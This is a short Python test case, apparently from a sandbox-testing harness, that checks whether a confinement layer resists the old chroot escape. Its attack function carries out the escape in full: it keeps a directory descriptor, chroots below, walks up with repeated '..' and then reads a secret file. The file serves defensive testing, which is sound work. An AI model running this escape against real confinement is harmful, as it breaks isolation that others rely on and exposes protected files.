"""Leaves a root directory by the old chroot trick: keep a descriptor outside, chroot below, walk
up.

layer: no capabilities
control: in a throw-away user namespace, out of a chroot
"""
import os

CONTROL = "unshare -Ur"


def scene(s):
    path = s.secret()
    s.args = {"path": path.lstrip("/"), "jail": None}
    if s.control:
        jail = os.path.join(s.ws, "jail")
        os.mkdir(jail)
        s.args["jail"] = jail


def attack(a):
    if a["jail"]:
        os.chroot(a["jail"])
        os.chdir("/")
    attempt(os.mkdir, "below")
    top = os.open(".", os.O_RDONLY)
    attempt(os.chroot, "below")
    os.fchdir(top)
    for _ in range(64):
        os.chdir("..")
    attempt(os.chroot, ".")
    print(slurp(a["path"]))
